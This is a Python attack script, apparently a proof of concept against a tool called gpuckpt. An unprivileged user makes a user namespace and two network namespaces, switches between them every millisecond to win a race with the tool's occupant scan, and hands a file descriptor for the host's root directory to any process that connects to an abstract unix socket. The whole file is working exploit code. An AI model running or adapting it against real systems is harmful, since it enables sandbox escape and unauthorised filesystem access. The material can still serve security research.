"""attack30l: a LOCAL NON-ROOT USER's process that makes two network namespaces of its own (in a user namespace of
its own: unshare -Urn needs no privilege) and flips between them, a listening abstract unix socket
@attack30l-fd in each, holding an fd of the HOST's "/" opened as the user. Whoever connects gets that fd.
The leader flips (setns) every FLIP_MS: /proc/PID/ns/net names one of the two; gpuckpt's occupant scan, visiting
PID a moment after its stat of the path, finds it in the other one, so "no process is in it".
usage: python3 flip.py PIDFILE"""
import ctypes, os, select, socket, sys, time
libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000
uid, gid = os.getuid(), os.getgid()
rootfd = os.open("/", os.O_RDONLY | os.O_DIRECTORY)  # the host's root, as the user sees it
if libc.unshare(CLONE_NEWUSER | CLONE_NEWNET):
    sys.exit(f"unshare: {os.strerror(ctypes.get_errno())}")
open("/proc/self/setgroups", "w").write("deny")
open("/proc/self/uid_map", "w").write(f"0 {uid} 1")
open("/proc/self/gid_map", "w").write(f"0 {gid} 1")
def listener():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.bind("\0attack30l-fd"); s.listen(4); s.setblocking(False); return s
ns1, s1 = os.open("/proc/self/ns/net", os.O_RDONLY), listener()
if libc.unshare(CLONE_NEWNET):
    sys.exit(f"unshare net: {os.strerror(ctypes.get_errno())}")
ns2, s2 = os.open("/proc/self/ns/net", os.O_RDONLY), listener()
print("netns", os.readlink("/proc/self/ns/net"), "and", os.stat(f"/proc/self/fd/{ns1}").st_ino, flush=True)
open(sys.argv[1], "w").write(str(os.getpid()))
flip = float(os.environ.get("FLIP_MS", "1")) / 1000
while True:
    for ns in (ns1, ns2):
        if libc.setns(ns, CLONE_NEWNET):
            sys.exit(f"setns: {os.strerror(ctypes.get_errno())}")
        ready, _, _ = select.select([s1, s2], [], [], flip)
        for s in ready:
            try:
                conn, _ = s.accept()
            except BlockingIOError:
                continue
            conn.setblocking(True)
            conn.sendmsg([b"root"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rootfd.to_bytes(4, "little"))])
            print(time.strftime("%T"), "handed the host's / to a peer in", os.readlink("/proc/self/ns/net"), flush=True)
            conn.close()
